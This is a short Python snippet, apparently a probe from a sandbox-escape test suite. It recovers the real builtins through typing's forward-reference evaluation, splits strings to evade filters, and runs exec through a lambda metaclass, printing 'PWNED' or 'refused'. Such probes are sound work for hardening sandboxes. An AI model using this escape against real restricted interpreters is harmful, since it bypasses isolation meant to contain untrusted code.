# reflect: a metaclass that is exec itself: class body's name/bases/ns are exec's arguments
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

try:
    class X(metaclass=lambda n, b, ns: rb["exec"](ns["src"])):
        src = "print('PWN' + 'ED')"
except Exception as e:
    print("refused:", type(e).__name__, e)
